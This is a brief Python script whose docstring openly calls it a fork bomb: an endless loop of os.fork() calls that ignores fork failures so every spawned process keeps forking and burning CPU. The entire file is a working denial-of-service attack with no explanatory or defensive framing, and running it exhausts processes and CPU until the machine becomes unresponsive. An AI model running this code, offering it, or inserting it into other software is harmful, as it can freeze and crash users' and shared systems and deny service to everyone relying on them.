"""A fork bomb that survives failed forks and burns CPU in every process it gets."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
